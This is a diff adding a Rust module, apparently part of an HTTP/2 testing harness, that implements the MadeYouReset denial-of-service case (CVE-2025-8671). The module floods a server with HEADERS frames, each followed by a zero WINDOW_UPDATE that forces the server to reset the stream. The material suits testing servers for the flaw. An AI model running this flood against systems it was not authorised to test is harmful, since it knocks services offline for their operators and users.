@@ -1,0 +1,31 @@
+//! MadeYouReset (CVE-2025-8671): streams that the server must reset itself, because of faulty frames.
+
+use super::hold_floods;
+use crate::attacker::Attacker;
+use crate::case::{Attack, Budgets, Case};
+use crate::frames::{END_HEADERS, HEADERS, WINDOW_UPDATE, call_headers, frame};
+use crate::link::LIVESTREAMS;
+
+pub(super) struct MadeYouReset;
+
+impl Case for MadeYouReset {
+    fn name(&self) -> &'static str {
+        "made-you-reset"
+    }
+
+    fn does(&self) -> &'static str {
+        "opens streams and makes the server reset each by a WINDOW_UPDATE of zero, a million in all"
+    }
+
+    fn budget(&self, _budgets: &Budgets<'_>) -> u64 {
+        0
+    }
+
+    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
+        Box::pin(hold_floods(attacker, &[], |out, number| {
+            let stream = 2 * number + 1;
+            frame(out, HEADERS, END_HEADERS, stream, &call_headers(&format!("{LIVESTREAMS}PublishUpdates")));
+            frame(out, WINDOW_UPDATE, 0, stream, &[0; 4]);
+        }))
+    }
+}
